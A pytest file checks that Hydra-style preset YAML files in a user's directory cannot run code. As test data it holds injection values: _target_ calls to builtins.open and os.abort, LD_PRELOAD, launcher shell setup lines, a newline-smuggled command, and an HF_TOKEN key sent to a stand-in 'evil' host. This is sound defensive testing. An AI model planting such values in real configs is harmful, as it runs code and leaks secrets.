"""Presets in a user's directory are data: whatever would run code must be typed."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from in_process import Harness

# Files of the directory, what is typed besides, and the setting that is refused.
GLOBAL = "# @package _global_\n"
OPENS = "{_target_: builtins.open, file: victim.txt, mode: w}"
RULE = "a preset runs no code and names no key: this must be typed, or left out"
CODE = {
    "callback": ("model/nice.yaml", f"{GLOBAL}hydra: {{callbacks: {{x: {OPENS}}}}}", "hydra.callbacks.x._target_"),
    "package": ("model/nice.yaml", f"# @package hydra.callbacks.x\n{OPENS}", "hydra.callbacks.x._target_"),
    "handler": ("model/nice.yaml", f"{GLOBAL}hydra: {{job_logging: {{handlers: {{console: {{(): builtins.open}}}}}}}}",
                "hydra.job_logging.handlers.console.()"),
    "logging": ("model/nice.yaml", f"{GLOBAL}hydra: {{hydra_logging: {{root: {{level: DEBUG}}}}}}",
                "hydra.hydra_logging.root.level"),
    "variable": ("model/nice.yaml", f"{GLOBAL}hydra: {{job: {{env_set: {{LD_PRELOAD: ./x.so}}}}}}",
                 "hydra.job.env_set.LD_PRELOAD"),
    "launcher": ("model/nice.yaml", f"{GLOBAL}hydra: {{launcher: {{_target_: os.abort}}}}", "hydra.launcher._target_"),
    "shell": ("model/nice.yaml", f'{GLOBAL}hydra: {{launcher: {{setup: ["touch victim.txt"]}}}}',
              "hydra.launcher.setup[0]"),
    "line break": ("model/nice.yaml", f'{GLOBAL}hydra: {{launcher: {{account: "x\\ntouch victim.txt"}}}}',
                   "hydra.launcher.account"),
    "cluster": ("model/nice.yaml", f'{GLOBAL}hydra: {{launcher: {{ray: {{init: {{address: "ray://evil:1"}}}}}}}}',
                "hydra.launcher.ray.init.address"),
    "resolver": ("model/nice.yaml", f'{GLOBAL}engine: "${{oc.create:{{start_command:[sh]}}}}"', "engine"),
    "object in a list": ("model/nice.yaml", f"{GLOBAL}hydra: {{sweeper: {{params: {{seed: [{OPENS}]}}}}}}",
                         "hydra.sweeper.params.seed[0]._target_"),
    "typed by a list": ("model/nice.yaml", f"{GLOBAL}hydra: {{sweeper: {{params: {{+hydra.job.env_set.A: 1}}}}}}",
                        "hydra.sweeper.params.+hydra.job.env_set.A"),
    "command by a list": ("model/nice.yaml",
                          f'{GLOBAL}hydra: {{sweeper: {{params: {{engine: "{{start_command:[sh]}}"}}}}}}',
                          "hydra.sweeper.params.engine"),
    "target elsewhere": ("model/nice.yaml", f"name: x\nrepository: {OPENS}", "model.repository._target_"),
    "repository's code": ("model/nice.yaml", "name: x\nrepository: a/b\ntrust_remote_code: true",
                          "model.trust_remote_code"),
    "server": ("model/nice.yaml", f'{GLOBAL}engine: {{start_command: [sh, -c, "touch victim.txt"]}}',
               "engine.start_command[0]"),
    "key for a stranger": ("model/nice.yaml",
                           f'{GLOBAL}engine: {{url: "http://evil/v1", api_key_variable: HF_TOKEN}}',
                           "engine.api_key_variable"),
    "rule of a file": ("model/nice.yaml", f"{GLOBAL}decoding: {{rule: ./own.py:Own}}", "decoding.rule"),
    "hydra's own group": ("hydra/sweeper/own.yaml", OPENS, "hydra.sweeper._target_"),
}  # fmt: skip


@pytest.mark.parametrize("kind", CODE)
def test_a_preset_runs_no_code(kind: str, harness: Harness, tmp_path: Path) -> None:
    path, content, setting = CODE[kind]
    file = tmp_path / "mine" / path
    file.parent.mkdir(parents=True)
    file.write_text(content)
    group, _, name = path.removesuffix(".yaml").rpartition("/")
    for directory in (["--config-dir", "mine"], ["hydra.searchpath=[file://mine]"]):
        typed = ["latency", *directory, f"{group}={name}", "engine=simulated", "num_prompts=8"]
        assert re.fullmatch(
            rf".*/{re.escape(path)}: {re.escape(setting)}: {RULE}",
            harness.refused(*typed),
        )
    assert not (tmp_path / "victim.txt").exists()


def test_a_preset_imports_no_class(harness: Harness, tmp_path: Path) -> None:
    (tmp_path / "own.py").write_text("open('victim.txt', 'w')\n")
    file = tmp_path / "mine" / "experiment" / "nice.yaml"
    file.parent.mkdir(parents=True)
    for sets in (
        "defaults: [{override /draft: ./own.py:Own}]",
        "hydra: {mode: MULTIRUN, sweeper: {params: {draft: './own.py:Own,lookup'}}}",
        r"hydra: {mode: MULTIRUN, sweeper: {params: {draft: './own.py\:Own'}}}",
    ):
        file.write_text(f"# @package _global_\n{sets}\n")
        for further in ([], ["--help"]) if "override" in sets else ([],):
            line = harness.refused("latency", "--config-dir", "mine", "+experiment=nice", *further)
            assert line.endswith(RULE)
    assert not (tmp_path / "victim.txt").exists()


def test_a_launcher_of_ones_own_has_the_words_of_its_cluster(
    harness: Harness, tmp_path: Path
) -> None:
    file = tmp_path / "mine" / "launcher" / "ours.yaml"
    file.parent.mkdir(parents=True)
    file.write_text(
        "# @package _global_\n"
        "defaults: [override /hydra/launcher: submitit_slurm]\n"
        "hydra:\n"
        "  job: {name: nightly}\n"
        "  sweep: {dir: 'out/${now:%H-%M}/${command}'}\n"
        "  launcher:\n"
        "    {partition: gpu-a, account: ours, timeout_min: 60, mem_gb: 128, gpus_per_node: 4, signal_delay_s: 60,\n"
        "     array_parallelism: 8, additional_parameters: {reservation: r_1}, setup: [module load cuda]}\n"
    )
    shown = harness("latency", "--config-dir", "mine", "+launcher=ours", "--cfg", "hydra").stdout
    assert "module load cuda" in shown
    assert "reservation: r_1" in shown
    # Lines of a shell are for whoever types the launcher's name.
    (tmp_path / "mine" / "model").mkdir()
    (tmp_path / "mine" / "model" / "nice.yaml").write_text(
        "defaults: [/launcher@_global_: ours]\nname: tiny\nrepository: a/b\n"
    )
    line = harness.refused("latency", "--config-dir", "mine", "model=nice")
    assert "launcher/ours.yaml: hydra.launcher.setup[0]: a preset runs no code" in line
